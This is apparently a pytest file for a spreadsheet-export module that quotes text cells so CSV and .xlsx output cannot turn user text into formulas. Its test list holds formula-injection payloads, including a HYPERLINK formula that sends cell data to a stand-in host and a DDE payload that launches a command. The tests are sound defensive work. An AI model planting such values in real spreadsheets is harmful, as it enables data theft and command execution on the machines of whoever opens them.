"""nlp.results.spreadsheet: a text cell is data, never a formula — quoted in CSV, a string cell in .xlsx."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from nlp.results.spreadsheet import csv_cells, neutralise_cell, restore_cell, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"klick")',
    "+49 711 123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_cell_quotes_every_formula_start(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Gute Moderation", "", "'", "'Zitat'", "100 %", "a=b", " =x"])
def test_neutralise_cell_leaves_plain_text(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", [*HOSTILE, "'=1+1", "''-x", "'", "'abc", "", "Moderation"])
def test_restore_cell_inverts_neutralise(text):
    assert restore_cell(neutralise_cell(text)) == text


def test_csv_cells_quote_text_but_not_numbers():
    assert csv_cells(["=A1", -0.5, -3, None, "-"]) == ["'=A1", -0.5, -3, "", "'-"]


def test_write_xlsx_text_is_a_string_cell_never_a_formula():
    out = io.BytesIO()
    write_xlsx(["text", "p"], [[text, -0.5] for text in HOSTILE] + [["a\x01b", None]], out, "t")
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    rows = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows[:-1]] == [(t, "s") for t in HOSTILE]
    assert {(r[1].value, r[1].data_type) for r in rows[:-1]} == {(-0.5, "n")}
    assert rows[-1][0].value == "a\ufffdb"  # a control character the format forbids
